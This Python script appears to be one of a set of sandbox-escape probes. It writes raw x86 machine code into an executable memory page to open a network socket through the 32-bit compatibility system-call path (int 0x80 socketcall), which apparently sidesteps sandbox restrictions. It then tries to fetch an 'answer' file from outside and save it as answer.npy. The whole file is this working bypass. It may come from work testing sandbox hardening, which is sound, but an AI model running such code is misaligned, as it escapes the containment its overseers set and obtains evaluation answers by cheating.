#!/usr/bin/env python3
"""Create an AF_INET socket with the i386 socketcall through int 0x80 (compat ABI), then fetch the answer."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import escape_common as ec  # noqa: E402

import ctypes
import struct

h = ec.hint()
mm = ec.libc.mmap
mm.restype = ctypes.c_void_p
mm.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PROT_RWX, MAP_PRIVATE_ANON_32BIT = 7, 0x02 | 0x20 | 0x40
page = mm(None, 4096, PROT_RWX, MAP_PRIVATE_ANON_32BIT, -1, 0)
if not page or page == ctypes.c_void_p(-1).value or page >= 1 << 32:
    ec.finish("int80", None, f"no 32-bit executable page: {ec.errno_text()}")
args_addr = page + 256
ctypes.memmove(args_addr, struct.pack("<3I", 2, 1, 0), 12)  # socket(AF_INET, SOCK_STREAM, 0)
code = (b"\x53" + b"\xb8" + struct.pack("<I", 102) + b"\xbb" + struct.pack("<I", 1)
        + b"\xb9" + struct.pack("<I", args_addr) + b"\xcd\x80" + b"\x5b" + b"\x48\x63\xc0" + b"\xc3")
ctypes.memmove(page, code, len(code))
socketcall = ctypes.CFUNCTYPE(ctypes.c_long)(page)
read_end, write_end = os.pipe()
child = os.fork()
if child == 0:  # a foreign-ABI syscall may kill the process: try it in a child
    os.close(read_end)
    fd = socketcall()
    msg = f"fd {fd}"
    if fd >= 0:
        try:
            data = ec.fetch_from_fd(fd, h.get("port", 9))
            if ec.is_answer(data):
                ec.write_answer(data)
                msg += f"; received {len(data)} bytes"
        except OSError as exc:
            msg += f"; connect failed: {exc}"
    os.write(write_end, msg.encode())
    os._exit(0)
os.close(write_end)
_, status = os.waitpid(child, 0)
msg = os.read(read_end, 4096).decode()
if os.WIFSIGNALED(status):
    ec.report("int80", False, f"child killed by signal {os.WTERMSIG(status)} at int 0x80")
else:
    ec.report("int80", os.path.exists("answer.npy") or msg.startswith("fd ") and not msg.startswith("fd -"), f"int 0x80 socketcall: {msg}")
